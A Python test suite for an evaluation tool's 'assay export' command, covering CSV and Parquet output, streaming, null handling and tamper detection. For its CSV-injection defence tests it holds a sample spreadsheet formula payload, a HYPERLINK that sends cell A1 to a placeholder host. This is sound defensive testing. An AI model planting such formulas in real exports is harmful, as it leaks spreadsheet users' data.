"""`assay export`: what a table holds is what the run holds, text stays text, and a big run is streamed."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from types import ModuleType

import pandas as pd
import pyarrow.parquet
import pytest
from click.testing import CliRunner, Result

from evals.cli.export import export
from evals.cli.main import COMMANDS
from evals.errors import AssayError
from reports import frames as module
from reports.frames import FORMS, TABLES, ExportError, frames, inert, write_csv, write_parquet
from reports.gates.verdict import VerdictError, read_verdict
from reports.records import BrokenRecord, Slot, read_record, write_record, write_slots

FORMULA = '=HYPERLINK("http://example.invalid?"&A1,"click")'
SAID = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", 'a "quoted"\nline, with comma', "\ud800 lone", "", "nul\x00", "’ plain", "'=1"]


@pytest.fixture
def run(sample: ModuleType, tmp_path: Path) -> Path:
    sample.build(tmp_path / "runs" / "one")
    return tmp_path / "runs" / "one"


def call(*arguments: object) -> Result:
    return CliRunner().invoke(export, [str(argument) for argument in arguments])


def fault(*arguments: object) -> str:
    """The sentence of a call that must fail."""
    error = call(*arguments).exception
    assert error is not None and not isinstance(error, SystemExit)
    return str(error)


def plant(folder: Path, slots: Iterable[Slot]) -> None:
    kept = list(slots)
    digest = write_slots(folder / "slots.jsonl", kept)
    record = read_record(folder / "record.json")
    write_record(folder, replace(record, slots_digest=digest, slot_counts={"cards": {"pass": len(kept)}}))


def saying(texts: Iterable[str]) -> Iterable[Slot]:
    for number, text in enumerate(texts):
        yield Slot(
            slot_id=f"s{number}",
            suite="cards",
            card="c",
            repeat=number,
            evaluator="e",
            state="pass",
            reason=text,
            got=text or None,
        )


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("table", TABLES)
def test_every_table_comes_back_as_it_was(run: Path, tmp_path: Path, table: module.TableName, form: module.Form) -> None:
    out = tmp_path / f"out.{form}"
    done = call(run, "--table", table, "--format", form, "--out", out)
    assert done.exit_code == 0, done.exception
    whole = pd.concat(frames([run], table))
    back = pd.read_parquet(out) if form == "parquet" else pd.read_csv(out, keep_default_na=False, na_values=[""])
    assert f"{len(whole)} rows of {table} from 1 run\n" in done.stderr
    assert list(back.columns) == list(whole.columns) and len(back) == len(whole) > 0
    for column in whole.columns:
        seen = [None if pd.isna(x) else x for x in back[column]]
        assert seen == [None if pd.isna(x) or (form == "csv" and x == "") else x for x in whole[column]], column


def test_the_rows_are_the_figures_of_the_run(run: Path) -> None:
    record, verdict = read_record(run / "record.json"), read_verdict(run / "verdict.json")
    metrics = pd.concat(frames([run], "metrics")).set_index("metric")
    assert metrics.loc["load.response.p95_s", "value"] == record.metrics["load.response.p95_s"].value  # type: ignore[union-attr]
    assert metrics.loc["load.response.p95_s", "unit"] == "seconds"
    gates = pd.concat(frames([run], "gates"))
    assert [*zip(gates["gate"], gates["state"], strict=True)] == [(gate.id, gate.state) for gate in verdict.gates]
    assert set(gates["verdict"]) == {"fail"} and "equipment/card-00" in json.loads(gates["cards"].iloc[0])
    cards = pd.concat(frames([run], "cards")).set_index("card")
    assert len(cards) == 60 and cards.loc["training/card-03", ["repeats", "passed", "failed"]].tolist() == [1, 0, 1]
    assert cards.loc["equipment/card-00", "severity"] == "critical"


def test_what_was_not_measured_is_null_and_not_zero(run: Path) -> None:
    record = read_record(run / "record.json")
    write_record(run, replace(record, metrics={"cards.pass_rate": None}))
    (piece,) = frames([run], "metrics")
    assert piece[["value", "n", "method"]].isna().all(axis=None)


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_is_made_inert(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert inert(f"x{text}") == f"x{text}" and inert("") == ""


def test_what_a_model_says_reaches_csv_as_text_and_parquet_as_it_is(run: Path, tmp_path: Path) -> None:
    plant(run, saying(SAID))
    file = io.StringIO()
    assert write_csv(frames([run], "slots"), file) == len(SAID)
    cells = [row["reason"] for row in csv.DictReader(io.StringIO(file.getvalue(), newline=""))]
    whole = [text.replace("\ud800", "\ufffd") for text in SAID]
    assert cells == [inert(text) for text in whole]
    assert not [cell for cell in cells if cell.startswith(module.FORMULA)]
    assert write_parquet(frames([run], "slots"), tmp_path / "s.parquet") == len(SAID)
    assert pd.read_parquet(tmp_path / "s.parquet")["reason"].tolist() == whole


def test_negative_numbers_stay_numbers(run: Path) -> None:
    record = read_record(run / "record.json")
    estimate = record.metrics["routing.ece"]
    assert estimate is not None
    write_record(run, replace(record, metrics={"routing.ece": replace(estimate, low=-0.5)}))
    file = io.StringIO()
    write_csv(frames([run], "metrics"), file)
    assert ",-0.5," in file.getvalue()


def test_a_folder_of_runs_is_one_table(run: Path, sample: ModuleType) -> None:
    sample.build(run.parent / "two", "pass")
    done = call(run.parent, "--table", "gates")
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {row["verdict"] for row in rows} == {"pass", "fail"} and done.stdout.count("run_id") == 1
    assert call(run / "record.json", "--table", "gates").stdout.splitlines()[0] == done.stdout.splitlines()[0]


def test_rows_are_streamed_in_pieces_of_one_shape(run: Path, tmp_path: Path) -> None:
    plant(run, saying(["x"] * 25))
    pieces = list(frames([run], "slots", rows=10))
    assert [len(piece) for piece in pieces] == [10, 10, 5]
    assert write_parquet(iter(pieces), tmp_path / "s.parquet") == 25
    assert pyarrow.parquet.ParquetFile(tmp_path / "s.parquet").num_row_groups == 3
    plant(run, [])
    (empty,) = frames([run], "slots")
    assert len(empty) == 0 and list(empty.columns) == list(pieces[0].columns)


def test_only_one_piece_is_held(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read = 0

    def counted(slots: Iterable[Slot]) -> Iterable[Slot]:
        nonlocal read
        for slot in slots:
            read += 1
            yield slot

    plant(run, saying(["x"] * 30))
    given = module.read_slots
    monkeypatch.setattr(module, "read_slots", lambda *arguments: counted(given(*arguments)))
    next(frames([run], "slots", rows=10))
    assert read == 10


def test_an_edited_run_is_refused_and_leaves_no_file(run: Path, tmp_path: Path) -> None:
    plant(run, saying(["145 F"] * 3))
    (run / "slots.jsonl").write_text((run / "slots.jsonl").read_text().replace("145 F", "165 F"))
    out = tmp_path / "out.csv"
    out.write_text("before")
    assert "was changed after the record was written" in fault(run, "--table", "slots", "--out", out)
    assert out.read_text() == "before" and not list(tmp_path.glob("*.part"))
    (run / "slots.jsonl").unlink()
    assert "slots.jsonl: is missing" in fault(run, "--table", "cards")
    with pytest.raises(BrokenRecord):
        list(frames([run], "slots"))
    (run / "verdict.json").unlink()
    with pytest.raises(VerdictError, match="run `assay gate`"):
        list(frames([run], "gates"))


def test_bad_calls_say_what_to_do(run: Path, tmp_path: Path) -> None:
    (tmp_path / "none").mkdir()
    assert "holds no finished run" in fault(tmp_path / "none")
    assert "name the file with --out" in fault(run, "--format", "parquet")
    error = call(run, "--out", tmp_path / "missing" / "x.csv").exception
    assert isinstance(error, AssayError) and error.exit_code == 3 and "cannot be written" in str(error)
    assert COMMANDS["export"] == "evals.cli.export:export"


def test_without_the_library_one_sentence_names_the_extra(run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ExportError, match=r"^pyarrow is not installed.*pip install 'assay\[export\]'"):
        write_parquet(frames([run], "metrics"), tmp_path / "x.parquet")
    monkeypatch.setitem(sys.modules, "pandas", None)
    assert fault(run).startswith("pandas is not installed")


def test_pandas_is_loaded_only_by_an_export() -> None:
    code = "import sys, reports.frames, evals.cli.export; sys.exit('pandas' in sys.modules or 'pyarrow' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
